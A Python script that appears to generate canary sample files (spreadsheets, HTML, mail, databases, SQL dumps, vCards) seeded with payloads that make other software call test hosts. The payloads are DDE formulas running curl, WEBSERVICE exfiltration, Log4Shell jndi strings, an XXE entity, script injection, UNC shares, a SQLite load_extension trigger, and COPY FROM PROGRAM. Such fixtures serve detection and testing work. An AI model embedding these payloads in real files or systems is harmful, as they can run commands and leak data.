"""Samples full of what makes other programs call: addresses, names, shares, images, formulas, entities, DDE."""

import io
import json
import sqlite3
import zipfile
from pathlib import Path

import xlsxwriter

ADDRESS = "192.0.2.7"  # RFC 5737; the canary's namespace answers for all of 192.0.2.0/24
ROWS = 40
HEAD = ("id", "name", "email", "website", "note")
NOTES = (
    '=HYPERLINK("http://cell.trap.test/h","open")',
    '=WEBSERVICE("http://cell.trap.test/w?"&A1)',
    "=cmd|'/c curl http://dde.trap.test'!A1",
    f"\\\\{ADDRESS}\\share\\picture.png",
    "\\\\files.trap.test\\share\\run.exe",
    f"file://{ADDRESS}/share/x",
    f'<img src="http://{ADDRESS}/pixel.gif">',
    "![x](http://md.trap.test/x.png)",
    '"><script src=//js.trap.test/a.js></script>',
    "${jndi:ldap://log.trap.test/a}",
    "ftp://ftp.trap.test/x smb://smb.trap.test/x ldap://ldap.trap.test/x",
    "<!ENTITY x SYSTEM 'http://xml.trap.test/x'>",
)


def rows():
    for i in range(ROWS):
        yield (
            str(i + 1),
            f"Person {i}",
            f"person{i}@d{i}.planted.trap.test",
            f"http://w{i}.trap.test/?{i}",
            NOTES[i % len(NOTES)],
        )


def quoted(text):
    return '"' + text.replace('"', '""') + '"'


def escaped(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def table_csv():
    lines = [",".join(HEAD), *(",".join(map(quoted, row)) for row in rows())]
    return ("\r\n".join(lines) + "\r\n").encode()


def workbook():
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("People")
        sheet.write_row(0, 0, HEAD)
        for i, row in enumerate(rows(), start=1):
            sheet.write_row(i, 0, row[:3])
            sheet.write_url(i, 3, row[3])
            if row[4].startswith("="):
                sheet.write_formula(i, 4, row[4], None, "0")
            else:
                sheet.write_string(i, 4, row[4])
        sheet.write_url(1, 6, rf"external:\\{ADDRESS}\share\book.xlsx")
    return out.getvalue()


def page():
    body = "".join(
        "<tr>"
        + "".join(f"<td>{escaped(c)}</td>" for c in row[:4])
        + f'<td><img src="{row[3]}"><iframe src="http://frame.trap.test/"></iframe>{escaped(row[4])}</td></tr>'
        for row in rows()
    )
    head = "".join(f"<th>{name}</th>" for name in HEAD)
    return (
        "<!DOCTYPE html><html><head><base href='http://base.trap.test/'>"
        "<meta http-equiv='refresh' content='0;url=http://refresh.trap.test/'>"
        "<link rel='stylesheet' href='http://css.trap.test/a.css'><script src='http://js.trap.test/a.js'></script>"
        f"</head><body background='http://{ADDRESS}/b.png'><table><tr>{head}</tr>{body}</table></body></html>"
    ).encode()


def mails():
    out = []
    for i, row in enumerate(rows()):
        out.append(
            f"From {row[2]} Thu Jan  1 00:00:{i:02} 2026\n"
            f"DKIM-Signature: v=1; a=rsa-sha256; d=dkim.trap.test; s=planted; h=from; bh=AA==; b=AA==\n"
            f"From: {row[1]} <{row[2]}>\nTo: list@planted.trap.test\nSubject: {i}\n"
            f"Disposition-Notification-To: <read@receipt.trap.test>\nList-Unsubscribe: <{row[3]}>\n"
            f"Date: Thu, 01 Jan 2026 00:00:{i:02} +0000\nMessage-ID: <{i}@id.trap.test>\n"
            "Content-Type: text/html\n\n"
            f'<img src="{row[3]}"><link rel=prefetch href="http://pre.trap.test/">\n\n'
        )
    return "".join(out).encode()


def database(folder):
    path = folder / "sample.sqlite"
    with sqlite3.connect(path) as base:
        base.execute(
            "CREATE TABLE people (id INTEGER, name TEXT, email TEXT, website TEXT, note TEXT)"
        )
        base.executemany("INSERT INTO people VALUES (?,?,?,?,?)", rows())
        base.execute(
            "CREATE TRIGGER t AFTER INSERT ON people BEGIN SELECT load_extension('\\\\192.0.2.7\\share\\x'); END"
        )
        base.execute("CREATE VIEW callers AS SELECT website FROM people")
    base.close()
    return path


def dump():
    values = ",\n".join(
        "(" + ",".join("'" + c.replace("\\", "\\\\").replace("'", "''") + "'" for c in row) + ")"
        for row in rows()
    )
    return (
        "-- MySQL dump 10.13\nCREATE TABLE `people` (`id` int, `name` text, `email` text, `website` text, `note` text);\n"
        f"INSERT INTO `people` VALUES {values};\n"
        "SELECT LOAD_FILE('\\\\\\\\192.0.2.7\\\\share\\\\x');\n"
        "COPY people FROM PROGRAM 'curl http://copy.trap.test/';\n"
        "SELECT dblink_connect('host=db.trap.test');\n"
    ).encode()


def cards():
    return "".join(
        f"BEGIN:VCARD\r\nVERSION:3.0\r\nN:{row[1]};;;;\r\nFN:{row[1]}\r\nEMAIL:{row[2]}\r\nURL:{row[3]}\r\n"
        f"PHOTO;VALUE=uri:http://photo.trap.test/{i}.png\r\nKEY;VALUE=uri:ldap://key.trap.test\r\nEND:VCARD\r\n"
        for i, row in enumerate(rows())
    ).encode()


def lines_json():
    return "".join(json.dumps(dict(zip(HEAD, row, strict=True))) + "\n" for row in rows()).encode()


def packed():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("sample.csv", table_csv())
    return out.getvalue()


def write(folder: Path) -> dict[str, Path]:
    """All of them, by their ending."""
    made = {
        "csv": table_csv(),
        "xlsx": workbook(),
        "html": page(),
        "mbox": mails(),
        "sql": dump(),
        "vcf": cards(),
        "jsonl": lines_json(),
        "zip": packed(),
    }
    out = {"sqlite": database(folder)}
    for ending, content in made.items():
        out[ending] = folder / f"sample.{ending}"
        out[ending].write_bytes(content)
    return out
